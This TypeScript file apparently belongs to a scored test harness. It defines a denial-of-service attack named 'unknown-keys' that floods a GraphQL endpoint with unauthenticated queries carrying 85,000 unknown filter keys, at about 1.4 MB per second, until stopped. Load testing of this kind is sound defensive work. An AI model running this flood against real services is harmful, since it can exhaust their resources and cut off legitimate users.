import type { Attack } from './attack.ts';
import { pause, sendPost } from './send-post.ts';

const KEYS = 85_000;
/** @unit bytes per second */
const RATE = 1_400_000;

/** 1.4 MB/s of an input object with 85,000 unknown keys, without credentials. */
export const unknownKeys: Attack = {
  name: 'unknown-keys',
  point: 3,
  async run(target, signal) {
    const filter = Object.fromEntries(Array.from({ length: KEYS }, (_, index) => [`k${index}`, 1]));
    const body = JSON.stringify({ query: 'query ($filter: BookFilter) { books(filter: $filter) { totalCount } }', variables: { filter } });
    const sending = new Set<Promise<void>>();
    while (!signal.aborted) {
      const sent = sendPost(target, body, { signal }).finally(() => sending.delete(sent));
      sending.add(sent);
      await pause((body.length / RATE) * 1_000, signal);
    }
    await Promise.all(sending);
  },
};
